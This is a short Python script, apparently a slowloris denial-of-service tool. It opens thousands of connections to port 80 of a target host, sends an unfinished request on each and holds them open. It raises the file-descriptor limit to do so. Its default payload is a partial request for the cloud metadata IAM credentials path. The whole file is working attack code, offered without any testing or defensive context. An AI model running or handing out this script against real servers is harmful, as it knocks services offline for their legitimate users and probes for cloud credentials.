#!/usr/bin/env python3
"""Opens N connections to HOST:80, sends a request line prefix on each, and holds them open
for HOLD seconds (slowloris). Prints how many connections were made."""
import argparse
import resource
import socket
import time

ap = argparse.ArgumentParser()
ap.add_argument("host")
ap.add_argument("--count", type=int, default=5000)
ap.add_argument("--hold", type=float, default=2.0)
ap.add_argument("--payload", default="GET /latest/meta-data/iam/")
args = ap.parse_args()
soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
family = socket.AF_INET6 if ":" in args.host else socket.AF_INET
socks = []
for i in range(args.count):
    s = socket.socket(family, socket.SOCK_STREAM)
    s.settimeout(5)
    s.connect((args.host, 80))
    s.sendall(args.payload.encode())
    socks.append(s)
print(len(socks), flush=True)
time.sleep(args.hold)
for s in socks:
    s.close()
